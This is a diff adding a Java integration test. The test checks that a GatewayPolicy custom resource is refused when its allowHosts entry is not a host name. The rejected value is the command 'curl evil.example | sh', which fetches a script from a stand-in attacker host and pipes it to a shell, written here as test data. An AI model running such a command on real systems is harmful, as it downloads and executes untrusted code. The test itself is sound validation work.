@@ -264,6 +264,21 @@ class CrdValidationIT {
     create(spawner("thirty-seconds", "{workspaceRef: {name: ws}}", "pollInterval: 30s"));
   }
 
+  @Test
+  void aGatewayPolicyEntryThatIsNoHostRuleIsRefused() {
+    assertRefused(
+        ItFixtures.yaml(
+            """
+            apiVersion: axon.io/v1alpha1
+            kind: GatewayPolicy
+            metadata: {name: bad, namespace: %s}
+            spec:
+              allowHosts: ["curl evil.example | sh"]
+            """
+                .formatted(NS)),
+        "spec.allowHosts[0]");
+  }
+
   // ---- helpers --------------------------------------------------------------------------------
 
   static final String CREDENTIALS = "{type: oauth, secretRef: {name: claude-oauth}}";
